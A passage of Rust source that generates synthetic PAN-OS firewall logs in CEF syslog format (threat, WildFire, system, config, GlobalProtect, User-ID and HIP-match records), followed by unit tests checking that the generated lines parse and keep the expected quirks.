            let service = rng.pick(&SERVICES[..3]);
            let session = Session::new(rng, service);
            let action = rng.pick(&["alert", "alert", "alert", "block-url", "continue"]);
            let mut cef = CefWriter::new(device.version, "url", "THREAT", Some("1"));
            session.write(&mut cef, device, &rt, "0x403000");
            let category = rng.pick(&URL_CATEGORIES[1..]);
            cef.kv("act", action)
                .kv("request", rng.pick(&URLS))
                .kv("cs2Label", "URL Category")
                .kv("cs2", category)
                .kv("flexString2Label", "Direction")
                .kv("flexString2", direction)
                .kv("PanOSActionFlags", "0x0")
                .external_id()
                .kv(
                    "requestContext",
                    rng.pick(&["text/html", "application/json", "image/png", ""]),
                )
                .kv("cat", "(9999)")
                .kv("fileId", 0)
                .kv("requestMethod", rng.pick(&["get", "post", "connect"]))
                .kv("requestClientApplication", rng.pick(&USER_AGENTS))
                .kv(
                    "PanOSXForwarderfor",
                    if rng.percent(20) {
                        "\"172.30.138.196\""
                    } else {
                        ""
                    },
                )
                .kv(
                    "PanOSReferer",
                    rng.pick(&[
                        "\"https://www.google.com/url?sa=t&url=https://www.example.com/\"",
                        "\"\"",
                        "",
                    ]),
                );
            write_device(&mut cef, device);
            write_threat_tail(&mut cef, rng, "unknown");
            cef.kv("PanOSRuleUUID", uuid(rng))
                .kv(
                    "PanOSURLCatList",
                    format!("\" DT-Stores-Whitelist,{category},low-risk\""),
                )
                .kv("PanOSHTTP2Con", 0)
                .kv("PanDynamicUsrgrp", "");
            cef.finish(syslog_severity(1))
        }
        LogKind::Wildfire => {
            let (threat_id, file_type, misc) = rng.pick(&[
                ("Windows Executable (EXE)(52020)", "pe", "\"setup_x64.exe\""),
                (
                    "Adobe Portable Document Format (PDF)(52030)",
                    "pdf",
                    "\"Q3 report.pdf\"",
                ),
                (
                    "Microsoft Word 2007+ Document(52111)",
                    "ms-office",
                    "\"invoice.docx\"",
                ),
            ]);
            let malicious = rng.percent(30);
            let severity = if malicious { 4 } else { 1 };
            let mut cef = CefWriter::new(
                device.version,
                "wildfire",
                "THREAT",
                Some(if malicious { "4" } else { "1" }),
            );
            let service = rng.pick(&[SERVICES[0], SERVICES[2], SERVICES[10]]);
            let session = Session::new(rng, service);
            session.write(&mut cef, device, &rt, "0x403000");
            let email = session.app == "smtp";
            cef.kv("act", if malicious { "alert" } else { "allow" })
                .kv("request", misc)
                .kv("cs2Label", "URL Category")
                .kv("cs2", rng.pick(&URL_CATEGORIES))
                .kv("flexString2Label", "Direction")
                .kv("flexString2", direction)
                .kv("PanOSActionFlags", "0x0")
                .external_id()
                .kv("cat", threat_id)
                .kv(
                    "filePath",
                    rng.pick(&[
                        "wildfire.paloaltonetworks.com",
                        "eu.wildfire.paloaltonetworks.com",
                    ]),
                )
                .kv("fileId", 0)
                .kv("fileHash", hex_digest(rng))
                .kv("fileType", file_type)
                .kv("suid", if email { "billing@partner.example" } else { "" })
                .kv("msg", if email { "Invoice March - overdue" } else { "" })
                .kv(
                    "duid",
                    if email {
                        "jane.smith@corp.example.com"
                    } else {
                        ""
                    },
                )
                .kv("oldFileId", rng.between(100_000_000, 999_999_999));
            write_device(&mut cef, device);
            write_threat_tail(&mut cef, rng, if malicious { "malware" } else { "benign" });
            cef.kv("PanOSRuleUUID", uuid(rng));
            cef.finish(syslog_severity(severity))
        }
        _ => {
            let (signatures, subtype): (&[Signature], &str) = match kind {
                LogKind::Spyware => (&SPYWARE, "spyware"),
                LogKind::Virus => (&VIRUSES, "virus"),
                _ => (&VULNERABILITIES, "vulnerability"),
            };
            let signature = rng.pick(signatures);
            let severity = signature.severity.to_string();
            let session = Session::new(rng, signature.service);
            let action = match signature.severity {
                5 | 4 => rng.pick(&["reset-both", "drop", "block-ip"]),
                _ if subtype == "spyware" => "sinkhole",
                _ => "alert",
            };
            let mut cef = CefWriter::new(
                device.version,
                signature.threat_id,
                "THREAT",
                Some(severity.as_str()),
            );
            session.write(&mut cef, device, &rt, "0x80402000");
            cef.kv("act", action)
                .kv("request", signature.misc)
                .kv("cs2Label", "URL Category")
                .kv("cs2", "any")
                .kv("flexString2Label", "Direction")
                .kv("flexString2", direction)
                .kv("PanOSActionFlags", "0x0")
                .external_id()
                .kv("cat", subtype)
                .kv("fileId", rng.below(2) * rng.between(1_000, 9_999_999));
            write_device(&mut cef, device);
            write_threat_tail(&mut cef, rng, signature.category);
            cef.kv("PanOSHTTPHeader", "")
                .kv("PanOSURLCatList", "")
                .kv("PanOSRuleUUID", uuid(rng))
                .kv("PanOSHTTP2Con", 0)
                .kv("PanDynamicUsrgrp", "");
            cef.finish(syslog_severity(signature.severity))
        }
    }
}

/// From `PanOSSrcUUID` to `PanOSPPID`: the threat templates' common tail.
fn write_threat_tail(cef: &mut CefWriter, rng: &mut Rng, threat_category: &str) {
    cef.kv("PanOSSrcUUID", "")
        .kv("PanOSDstUUID", "")
        .kv("PanOSTunnelID", 0)
        .kv("PanOSMonitorTag", "")
        .kv("PanOSParentSessionID", 0)
        .kv("PanOSParentStartTime", "")
        .kv("PanOSTunnelType", "N/A")
        .kv("PanOSThreatCategory", threat_category)
        .kv(
            "PanOSContentVer",
            format!(
                "AppThreat-{}-{}",
                rng.between(8600, 8800),
                rng.between(1000, 9000)
            ),
        )
        .kv("PanOSAssocID", 0)
        .kv("PanOSPPID", 4294967295u64);
}

/// SYSTEM events: subtype, event id, module, PAN severity, object, description.
/// `{user}` and `{ip}` are filled in.
const SYSTEM_EVENTS: [(&str, &str, &str, u64, &str, &str); 7] = [
    (
        "general",
        "general",
        "general",
        1,
        "",
        "Connection to Update server closed: updates.paloaltonetworks.com, source: {ip}",
    ),
    (
        "auth",
        "auth-success",
        "general",
        1,
        "",
        "authenticated for user '{user}'.  auth profile 'Corp-LDAP', vsys 'shared', server profile 'corp-ldap', server address '10.0.0.10', From: {ip}.",
    ),
    (
        "auth",
        "auth-fail",
        "general",
        3,
        "",
        "failed authentication for user '{user}'.  Reason: Invalid username/password. auth profile 'Corp-LDAP', vsys 'shared', From: {ip}.",
    ),
    (
        "globalprotect",
        "globalprotectgateway-regist-succ",
        "general",
        1,
        "GP-Gateway",
        "GlobalProtect gateway user login succeeded. Login from: {ip}, Source region: US, User name: {user}, Client OS version: Microsoft Windows 10 Enterprise , 64-bit.",
    ),
    (
        "routing",
        "routed-bgp-peer-state",
        "routing",
        3,
        "",
        "BGP peer session 169.254.21.1 changed state from Established to Idle",
    ),
    (
        "vpn",
        "ike-nego-p2-succ",
        "ike",
        1,
        "to-branch-07",
        "IKE phase-2 negotiation is succeeded as initiator, quick mode. Established SA: 203.0.113.7[500]-{ip}[500] message id:0x2A9C1B44.",
    ),
    (
        "ha",
        "state-change",
        "ha",
        4,
        "",
        "HA Group 1: Moved from state Passive to state Active",
    ),
];

fn system(device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let (subtype, event_id, module, severity, object, description) = rng.pick(&SYSTEM_EVENTS);
    let user = match rng.pick(&USERS[..5]) {
        "" => "admin",
        user => user,
    };
    let description = description
        .replace("{user}", user)
        .replace("{ip}", &internal_ip(rng));
    let mut cef = CefWriter::new(
        device.version,
        subtype,
        "SYSTEM",
        Some(severity.to_string().as_str()),
    );
    cef.kv("rt", cef_time(earlier(now, rng, 2)))
        .kv("deviceExternalId", device.serial)
        .kv("cs3Label", "Virtual System")
        .kv("cs3", "")
        .kv("fname", object)
        .kv("flexString2Label", "Module")
        .kv("flexString2", module)
        .kv("msg", description)
        .external_id()
        .kv("cat", event_id);
    write_device(&mut cef, device);
    cef.kv("PanOSActionFlags", "0x0");
    cef.finish(syslog_severity(severity))
}

/// CONFIG changes: command, path (PAN-OS starts it with a space), before and after detail.
const CONFIG_CHANGES: [(&str, &str, &str, &str); 5] = [
    (
        "set",
        " config shared log-settings syslog Sentinel-Syslog server cefrelay",
        "",
        "cefrelay { transport TCP; port 514; format BSD; server 10.0.0.5; facility LOG_LOCAL4; } ",
    ),
    (
        "edit",
        " vsys vsys1 rulebase security rules  Allow Outbound Web",
        "Allow Outbound Web { from trust; to untrust; application any; action allow; } ",
        "Allow Outbound Web { from trust; to untrust; application [ ssl web-browsing ]; action allow; } ",
    ),
    ("commit", "", "", ""),
    (
        "delete",
        " config shared address host-10.2.3.4",
        "host-10.2.3.4 { ip-netmask 10.2.3.4; } ",
        "",
    ),
    (
        "set",
        " config shared log-settings iptag match-list  ip-tag",
        "",
        "iptag { match-list { ip-tag  { send-syslog [ SYSLOG-1 ]; filter \"All Logs\"; } } } ",
    ),
];

fn config(device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let (command, path, before, after) = rng.pick(&CONFIG_CHANGES);
    let result = match command {
        "commit" => "Submitted",
        _ if rng.percent(10) => "Failed",
        _ => "Succeeded",
    };
    let mut cef = CefWriter::new(device.version, result, "CONFIG", Some("1"));
    cef.kv("rt", cef_time(earlier(now, rng, 2)))
        .kv("deviceExternalId", device.serial)
        .kv("shost", internal_ip(rng))
        .kv("cs3Label", "Virtual System")
        .kv(
            "cs3",
            if path.starts_with(" vsys") {
                "vsys1"
            } else {
                ""
            },
        )
        .kv("act", command)
        .kv(
            "duser",
            rng.pick(&["admin", "corp\\jdoe", "Panorama-admin"]),
        )
        .kv(
            "destinationServiceName",
            rng.pick(&["Web", "CLI", "XML API"]),
        )
        .kv("msg", path)
        .external_id();
    write_device(&mut cef, device);
    cef.kv("PanOSActionFlags", "0x0")
        .kv("cs1Label", "Before Change Detail")
        .kv("cs1", before)
        .kv("cs2Label", "After Change Detail")
        .kv("cs2", after);
    cef.finish(INFORMATIONAL)
}

fn globalprotect(device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let (event_id, stage, status) = rng.pick(&[
        ("portal-prelogin", "before-login", "success"),
        ("gateway-auth", "login", "success"),
        ("gateway-auth", "login", "failure"),
        ("gateway-connected", "connected", "success"),
        ("gateway-config-release", "configuration", "success"),
        ("gateway-logout", "logout", "success"),
    ]);
    let received = earlier(now, rng, 2);
    let user = match rng.pick(&USERS[..5]) {
        "" => "corp\\jdoe",
        user => user,
    };
    let connected = stage != "before-login";
    // The 10.x template really is `$type|$subtype|` with no severity: the class id holds the
    // type, the name holds the subtype ("0" on a firewall).
    let mut cef = CefWriter::new(device.version, "GLOBALPROTECT", "0", None);
    cef.kv("rt", plain_time(received))
        .kv("PanOSDeviceSN", device.serial)
        .kv("PanOSLogTimeStamp", plain_time(received))
        .kv("PanOSVirtualSystem", "vsys1")
        .kv("PanOSEventID", event_id)
        .kv("PanOSStage", stage)
        .kv("PanOSAuthMethod", if connected { "LDAP" } else { "" })
        .kv("PanOSTunnelType", if connected { "IPSec" } else { "" })
        .kv("PanOSSourceUserName", if connected { user } else { "" })
        .kv("PanOSSourceRegion", rng.pick(&["US", "BE", "DE", "GB"]))
        .kv(
            "PanOSEndpointDeviceName",
            rng.pick(&["LT-JDOE-01", "CP935", ""]),
        )
        .kv("PanOSPublicIPv4", external_ip(rng))
        .kv("PanOSPublicIPv6", "")
        .kv(
            "PanOSPrivateIPv4",
            if connected {
                internal_ip(rng)
            } else {
                "0.0.0.0".into()
            },
        )
        .kv("PanOSPrivateIPv6", "")
        .kv("PanOSHostID", uuid(rng))
        .kv("PanOSDeviceSN", rng.pick(&["5J9VN53", "C02XK1JHJGH5", ""]))
        .kv(
            "PanOSGlobalProtectClientVersion",
            rng.pick(&["5.2.4", "6.1.3"]),
        )
        .kv(
            "PanOSEndpointOSType",
            rng.pick(&["Microsoft Windows", "Apple Mac"]),
        )
        .kv(
            "PanOSEndpointOSVersion",
            "Microsoft Windows 10 Pro , 64-bit",
        )
        .kv("PanOSCountOfRepeats", 1)
        .kv("PanOSQuarantineReason", "")
        .kv(
            "PanOSConnectionError",
            if status == "failure" {
                "Authentication failed: Invalid username or password"
            } else {
                ""
            },
        )
        .kv("PanOSDescription", "")
        .kv("PanOSEventStatus", status)
        .kv("PanOSGPGatewayLocation", "")
        .kv("PanOSLoginDuration", rng.below(36_000))
        .kv(
            "PanOSConnectionMethod",
            rng.pick(&["user-logon", "on-demand"]),
        )
        .kv("PanOSConnectionErrorID", 0)
        .kv(
            "PanOSPortal",
            rng.pick(&["GlobalProtect Portal", "GP-Portal-Corp"]),
        )
        .kv("PanOSSequenceNo", rng.between(1 << 40, 1 << 52))
        .kv("PanOSActionFlags", "0x0");
    cef.finish(INFORMATIONAL)
}

fn userid(device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let subtype = rng.pick(&["login", "login", "logout", "register-tag"]);
    let (source_name, source, source_type) = rng.pick(&[
        ("dc01.corp.example.com", "AD", "kerberos"),
        ("GP-Gateway", "globalprotect", "globalprotect"),
        ("cefrelay", "XMLAPI", "xml-api"),
    ]);
    let user = match rng.pick(&USERS[..5]) {
        "" => "corp\\svc_backup",
        user => user,
    };
    let mut cef = CefWriter::new(device.version, subtype, "USERID", Some("1"));
    cef.kv("rt", cef_time(earlier(now, rng, 2)))
        .kv("deviceExternalId", device.serial)
        .kv("cs1Label", "Factor Type")
        .kv("cs1", "")
        .kv("cs3Label", "Virtual System")
        .kv("cs3", "vsys1")
        .kv("cs4Label", "Data Source Name")
        .kv("cs4", source_name)
        .kv("cs5Label", "Data Source")
        .kv("cs5", source)
        .kv("cs6Label", "Data Source Type")
        .kv("cs6", source_type)
        .kv("cn1Label", "Factor Number")
        .kv("cn1", 0)
        .kv("cn2Label", "Virtual System ID")
        .kv("cn2", 1)
        .kv("cn3Label", "Timeout Threshold")
        .kv("cn3", 2700)
        .kv("src", internal_ip(rng))
        .kv("spt", 0)
        .kv("dpt", 0)
        .kv("cnt", 1)
        .kv("duser", user)
        .external_id()
        .kv("cat", "")
        .kv("end", "");
    write_device(&mut cef, device);
    cef.kv("PanOSActionFlags", "0x0")
        .kv("PanOSUGFlags", "0x100")
        .kv("PanOSUserBySource", user);
    cef.finish(INFORMATIONAL)
}

fn hipmatch(device: &Device, rng: &mut Rng, now: OffsetDateTime) -> Record {
    let received = earlier(now, rng, 2);
    let user = match rng.pick(&USERS[..5]) {
        "" => "corp\\jdoe",
        user => user,
    };
    let mut cef = CefWriter::new(
        device.version,
        rng.pick(&["object", "profile"]),
        "HIPMATCH",
        Some("1"),
    );
    cef.kv("rt", cef_time(received))
        .kv("deviceExternalId", device.serial)
        .kv("suser", user)
        .kv("cs3Label", "Virtual System")
        .kv("cs3", "vsys1")
        .kv("shost", rng.pick(&["LT-JDOE-01", "CP935", "MBP-JSMITH"]))
        .kv("src", internal_ip(rng))
        .kv("cnt", 1)
        .external_id()
        .kv(
            "cat",
            rng.pick(&["Corp-Managed-Laptop", "Disk-Encrypted", "AV-Up-To-Date"]),
        )
        .kv("start", cef_time(received))
        .kv("cs2Label", "Operating System")
        .kv(
            "cs2",
            rng.pick(&["Microsoft Windows 10 Enterprise , 64-bit", "Mac OS X 14.2"]),
        )
        .kv("PanOSActionFlags", "0x0");
    write_device(&mut cef, device);
    cef.kv("cn2Label", "Virtual System ID")
        .kv("cn2", 1)
        .kv("c6a2Label", "IPv6 Source Address")
        .kv("c6a2", "")
        .kv("PanOSHostID", uuid(rng));
    cef.finish(INFORMATIONAL)
}

#[cfg(test)]
mod tests {
    use super::*;

    use cefrelay_syslog::{ParseOptions, Status};

    fn reference_time() -> OffsetDateTime {
        time::macros::datetime!(2026-03-05 09:07:03.250 UTC)
    }

    fn line(pool: &Pool, header: &SyslogHeader, marker: &str, n: u64) -> String {
        let mut out = Vec::new();
        pool.record(n).write_line(header, marker, n, &mut out);
        String::from_utf8(out).expect("generated lines are UTF-8")
    }

    #[test]
    fn every_generated_line_parses_as_cef_and_carries_its_marker() {
        let pool = Pool::new(&Mix::default(), DEFAULT_SEED, reference_time());
        let options = ParseOptions::new(reference_time());
        for format in [HeaderFormat::Rfc3164, HeaderFormat::Rfc5424] {
            let header = SyslogHeader::new(format, "fw-collector-01", reference_time());
            for n in 0..2000 {
                let text = line(&pool, &header, "gen-test", n);
                let message = cefrelay_syslog::parse(&text, &options);
                assert_eq!(message.status, Status::Ok, "{text}");
                assert_eq!(message.facility, Some(FACILITY_LOCAL4), "{text}");
                assert_eq!(message.hostname, Some("fw-collector-01"), "{text}");
                let cef = match cefrelay_cef::parse_in_message(message.body) {
                    Some(Ok(cef)) => cef,
                    other => panic!("not valid CEF ({other:?}): {text}"),
                };
                assert_eq!(cef.version, 0);
                for field in [
                    &cef.device_vendor,
                    &cef.device_product,
                    &cef.device_version,
                    &cef.signature_id,
                    &cef.name,
                ] {
                    assert!(!field.is_empty(), "empty header field: {text}");
                }
                // Only the GlobalProtect template lacks a severity, as PAN-OS 10.x sends it.
                if cef.signature_id != "GLOBALPROTECT" {
                    assert!(cef.severity_level().is_some(), "severity: {text}");
                }
                assert_eq!(
                    cef.extension("externalId"),
                    Some(format!("gen-test-{n}").as_str()),
                    "{text}"
                );
            }
        }
    }

    #[test]
    fn line_len_matches_the_written_line() {
        let pool = Pool::new(&Mix::default(), 7, reference_time());
        let header = SyslogHeader::new(HeaderFormat::Rfc5424, "h", reference_time());
        for n in [0, 9, 10, 99, 100, 12_345, u64::MAX] {
            let record = pool.record(n);
            let mut out = Vec::new();
            record.write_line(&header, "m", n, &mut out);
            assert_eq!(record.line_len(&header, "m", n), out.len());
        }
    }

    #[test]
    fn the_same_seed_gives_the_same_messages_and_another_seed_others() {
        let header = SyslogHeader::new(HeaderFormat::Rfc3164, "h", reference_time());
        let lines = |seed| {
            let pool = Pool::new(&Mix::default(), seed, reference_time());
            (0..POOL_SIZE as u64)
                .map(|n| line(&pool, &header, "m", n))
                .collect::<Vec<_>>()
        };
        assert_eq!(lines(1), lines(1));
        assert_ne!(lines(1), lines(2));
    }

    #[test]
    fn the_default_mix_is_mostly_traffic_then_threat() {
        let pool = Pool::new(&Mix::default(), DEFAULT_SEED, reference_time());
        let header = SyslogHeader::new(HeaderFormat::Rfc3164, "h", reference_time());
        let text: Vec<String> = (0..POOL_SIZE as u64)
            .map(|n| line(&pool, &header, "m", n))
            .collect();
        let percent =
            |needle: &str| text.iter().filter(|t| t.contains(needle)).count() * 100 / POOL_SIZE;
        assert_eq!(percent("|TRAFFIC|1|"), 70);
        assert!((19..=20).contains(&percent("|THREAT|")));
        assert!((4..=5).contains(&percent("|SYSTEM|")));
        for kind in [
            "|url|THREAT|",
            "|wildfire|THREAT|",
            " cat=vulnerability ",
            " cat=spyware ",
            " cat=virus ",
            "|CONFIG|1|",
            "|GLOBALPROTECT|0|",
            "|USERID|1|",
            "|HIPMATCH|1|",
        ] {
            assert!(
                percent(kind) < 10 && text.iter().any(|t| t.contains(kind)),
                "{kind}"
            );
        }
    }

    #[test]
    fn a_threat_only_mix_names_every_record_threat() {
        let mix: Mix = "threat=100".parse().expect("valid mix");
        let pool = Pool::new(&mix, 3, reference_time());
        let header = SyslogHeader::new(HeaderFormat::Rfc3164, "h", reference_time());
        for n in 0..POOL_SIZE as u64 {
            let text = line(&pool, &header, "m", n);
            assert!(text.contains("|THREAT|"), "{text}");
        }
    }

    #[test]
    fn bad_mixes_are_refused_with_a_reason() {
        for (mix, reason) in [
            ("trafic=70", "unknown log kind"),
            ("traffic", "kind=weight"),
            ("traffic=lots", "whole number"),
            ("traffic=0", "positive weight"),
            ("", "positive weight"),
        ] {
            let error = mix.parse::<Mix>().expect_err(mix);
            assert!(error.contains(reason), "{mix}: {error}");
        }
        assert!("Traffic=1, url=2".parse::<Mix>().is_ok());
    }

    #[test]
    fn the_pool_holds_the_quirks_receivers_must_survive() {
        let pool = Pool::new(&Mix::default(), DEFAULT_SEED, reference_time());
        let header = SyslogHeader::new(HeaderFormat::Rfc3164, "h", reference_time());
        let text: Vec<String> = (0..POOL_SIZE as u64)
            .map(|n| line(&pool, &header, "m", n))
            .collect();
        let any = |needle: &str| text.iter().any(|t| t.contains(needle));
        assert!(any("suser=corp\\"), "raw backslash in a user");
        assert!(
            any("request=\"www.bing.com/search?q="),
            "unescaped = in a URL"
        );
        assert!(any("cs1=Allow Outbound Web "), "rule name with spaces");
        assert!(any("duser= "), "empty value");
        assert!(any("GLOBALPROTECT|0|rt="), "GlobalProtect without severity");
        let sizes: usize = text.iter().map(String::len).sum();
        let average = sizes / text.len();
        assert!((700..=1800).contains(&average), "average {average} bytes");
    }

    #[test]
    fn rfc3164_header_pads_the_day_with_a_space() {
        let header = SyslogHeader::new(HeaderFormat::Rfc3164, "fw", reference_time());
        let mut out = Vec::new();
        header.write(166, &mut out);
        assert_eq!(out, b"<166>Mar  5 09:07:03 fw ");
        let header = SyslogHeader::new(HeaderFormat::Rfc5424, "fw", reference_time());
        out.clear();
        header.write(14, &mut out);
        assert_eq!(out, b"<14>1 2026-03-05T09:07:03.250Z fw - - - - ");
    }

    #[test]
    fn rng_stays_in_bounds() {
        let mut rng = Rng::new(0);
        for _ in 0..10_000 {
            assert!(rng.below(7) < 7);
            assert!((3..=5).contains(&rng.between(3, 5)));
        }
        assert_eq!(rng.below(0), 0);
    }
}
